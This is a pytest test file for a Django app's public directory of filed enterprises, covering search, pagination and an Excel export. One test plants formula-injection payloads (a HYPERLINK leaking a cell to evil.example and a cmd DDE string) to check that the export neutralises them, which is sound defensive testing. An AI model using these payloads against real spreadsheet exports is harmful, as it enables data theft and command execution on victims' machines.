"""R-M5: the public directory of filed enterprises, its search, pages and Excel export."""

import datetime as dt
import io
import zipfile
from urllib.parse import quote

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from filings.models import Filing, WorkType
from tests.support.factories import (
    EnterpriseFactory,
    FilingFactory,
    OccupationFactory,
    ScopeLineFactory,
    approved_filing,
)

URL = "/directory/"
EXPORT_URL = "/directory/export.xlsx"


def approved(enterprise, *, number: str, valid_until: dt.date | None = None) -> Filing:
    today = timezone.localdate()
    return approved_filing(
        enterprise,
        number,
        approved_on=today - dt.timedelta(days=30),
        valid_until=valid_until or today + dt.timedelta(days=1000),
    )


@pytest.fixture
def turner(db):
    return OccupationFactory(code="6-18-01-01", name="车工")


@pytest.fixture
def electrician(db):
    return OccupationFactory(code="6-31-01-03", name="电工")


@pytest.fixture
def entries(world, ent_a, ent_b, turner, electrician):
    """A in 南山 files 车工 levels 5–3; B in 福田 files 电工 (维修电工) levels 4 and 2."""
    ent_b.contact_name = "张敏"
    ent_b.contact_phone = "0755-88886666"
    ent_b.address = "深圳市福田区深南大道8号"
    ent_b.save(update_fields=["contact_name", "contact_phone", "address"])
    a = approved(ent_a, number="440320250001")
    ScopeLineFactory(filing=a, occupation=turner, levels=[5, 4, 3])
    b = approved(ent_b, number="440320250002")
    ScopeLineFactory(
        filing=b,
        occupation=electrician,
        work_type=WorkType.objects.create(occupation=electrician, name="维修电工"),
        levels=[4, 2],
    )
    return a, b


def page_text(response) -> str:
    assert response.status_code == 200
    return response.content.decode()


def test_r_m5_directory_is_public_and_shows_the_entries(client, entries):
    a, b = entries
    text = page_text(client.get(URL))
    assert "备案企业目录" in text
    assert "南山精密机械有限公司" in text and "福田电子科技有限公司" in text
    assert "南山区" in text and "福田区" in text
    assert "深圳市福田区深南大道8号" in text
    assert "张敏" in text and "0755-88886666" in text
    assert "6-18-01-01 车工：五级至三级" in text
    assert "6-31-01-03 电工（维修电工）：四级、二级" in text
    assert "440320250001" in text and "440320250002" in text
    assert b.valid_until.isoformat() in text
    assert "共找到2家企业" in text


def test_r_m5_an_enterprise_that_filed_twice_is_listed_once_with_all_it_may_certify(
    client, entries, ent_a, electrician
):
    # seed 001 §五(二): a filed enterprise adds occupations by filing again (R-F9).
    again = approved(ent_a, number="440320250003")
    ScopeLineFactory(filing=again, occupation=electrician, levels=[5])

    text = page_text(client.get(URL))

    assert text.count("南山精密机械有限公司") == 1
    row = text[text.index("南山精密机械有限公司") :]
    row = row[: row.index("</tr>")]
    assert "6-18-01-01 车工：五级至三级" in row and "6-31-01-03 电工：五级" in row
    assert "440320250001" in row and "440320250003" in row
    assert "共找到2家企业" in text


def test_r_m5_only_approved_and_valid_filings_are_listed(client, world, entries, turner):
    expired_ent = EnterpriseFactory(name="过期机械有限公司", district=world["nanshan"])
    expired = approved(
        expired_ent, number="440320200009", valid_until=timezone.localdate() - dt.timedelta(days=1)
    )
    ScopeLineFactory(filing=expired, occupation=turner)
    pending_ent = EnterpriseFactory(name="审核中科技有限公司", district=world["nanshan"])
    FilingFactory(enterprise=pending_ent, status="city_review")
    text = page_text(client.get(URL))
    assert "过期机械有限公司" not in text
    assert "审核中科技有限公司" not in text
    assert "南山精密机械有限公司" in text


def test_r_m5_search_by_enterprise_name(client, entries):
    text = page_text(client.get(URL, {"name": "精密"}))
    assert "南山精密机械有限公司" in text
    assert "福田电子科技有限公司" not in text


@pytest.mark.parametrize("term", ["6-31-01", "电工", "维修电工"])
def test_r_m5_search_by_occupation_code_name_or_work_type(client, entries, term):
    text = page_text(client.get(URL, {"occupation": term}))
    assert "福田电子科技有限公司" in text
    assert "南山精密机械有限公司" not in text


def test_r_m5_filter_by_district_offers_only_districts_with_entries(client, world, entries):
    text = page_text(client.get(URL, {"district": world["futian"].pk}))
    assert "福田电子科技有限公司" in text
    assert "南山精密机械有限公司" not in text
    assert f'<option value="{world["nanshan"].pk}">深圳市 南山区</option>' in text
    assert "顺德区" not in text


def test_r_m5_an_unknown_district_is_reported_and_not_applied(client, entries):
    text = page_text(client.get(URL, {"district": "999999", "name": "精密"}))
    assert "南山精密机械有限公司" in text  # the valid criterion still applies
    assert "福田电子科技有限公司" not in text
    assert "errorlist" in text


def test_r_m5_no_match_says_so(client, entries):
    text = page_text(client.get(URL, {"name": "不存在的公司"}))
    assert "没有符合查询条件的备案企业" in text


def make_entries(world, count: int, occupation) -> None:
    for n in range(count):
        enterprise = EnterpriseFactory(name=f"名录企业{n:03d}", district=world["nanshan"])
        filing = approved(enterprise, number=f"4403202599{n:03d}")
        ScopeLineFactory(filing=filing, occupation=occupation, levels=[5, 4])
        ScopeLineFactory(filing=filing, occupation=OccupationFactory(), levels=[3])


def test_r_m5_pages_of_fifty_keep_the_search(client, world, turner):
    make_entries(world, 60, turner)
    first = page_text(client.get(URL, {"occupation": "车工"}))
    assert first.count("名录企业") == 50
    assert "第1页，共2页" in first
    assert "?occupation=%E8%BD%A6%E5%B7%A5&amp;page=2" in first
    second = page_text(client.get(URL, {"occupation": "车工", "page": 2}))
    assert second.count("名录企业") == 10
    assert "名录企业059" in second


@pytest.mark.parametrize("rows", [1, 200])
def test_r_m5_page_queries_do_not_grow_with_rows(
    client, world, turner, rows, django_assert_max_num_queries
):
    make_entries(world, rows, turner)
    # count, the page's enterprises, their filings, their scope lines, the district choices,
    # their approved evaluation schemes
    with django_assert_max_num_queries(6):
        text = page_text(client.get(URL, {"occupation": "6-18"}))
    assert text.count("车工：五级、四级") == min(rows, 50)


def read_sheet(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(content)).active, content


def test_r_m5_export_has_one_row_per_filed_occupation(client, entries):
    a, b = entries
    response = client.get(EXPORT_URL)
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "filename*=utf-8''" + quote("备案企业目录") in response["Content-Disposition"]
    sheet, _content = read_sheet(response)
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (
        "备案编号", "企业名称", "所在区", "地址", "联系人", "联系电话",
        "职业编码", "职业名称", "工种", "等级", "有效期至", "机构类型",
    )  # fmt: skip
    assert rows[1][:3] == ("440320250001", "南山精密机械有限公司", "深圳市 南山区")
    assert rows[1][6:10] == ("6-18-01-01", "车工", "--", "五级至三级")
    assert rows[2][4:10] == (
        "张敏",
        "0755-88886666",
        "6-31-01-03",
        "电工",
        "维修电工",
        "四级、二级",
    )
    assert rows[2][10].date() == b.valid_until
    assert rows[2][11] == "企业"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold


def test_r_m5_export_applies_the_search(client, entries):
    sheet, _content = read_sheet(client.get(EXPORT_URL, {"occupation": "电工"}))
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names == ["福田电子科技有限公司"]


def test_r_m5_export_never_writes_a_formula(client, world, turner):
    malicious = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
    enterprise = EnterpriseFactory(
        name=malicious, district=world["nanshan"], contact_name="+cmd|' /C calc'!A0"
    )
    ScopeLineFactory(filing=approved(enterprise, number="440320250099"), occupation=turner)
    sheet, content = read_sheet(client.get(EXPORT_URL))
    name_cell, contact_cell = sheet["B2"], sheet["E2"]
    assert name_cell.value == malicious
    assert name_cell.data_type == "s"
    assert name_cell.quotePrefix
    assert contact_cell.value == "+cmd|' /C calc'!A0"
    assert contact_cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_r_m5_export_queries_do_not_grow_with_rows(
    client, world, turner, django_assert_max_num_queries
):
    make_entries(world, 120, turner)
    with django_assert_max_num_queries(4):
        sheet, _content = read_sheet(client.get(EXPORT_URL))
    assert sheet.max_row == 1 + 240
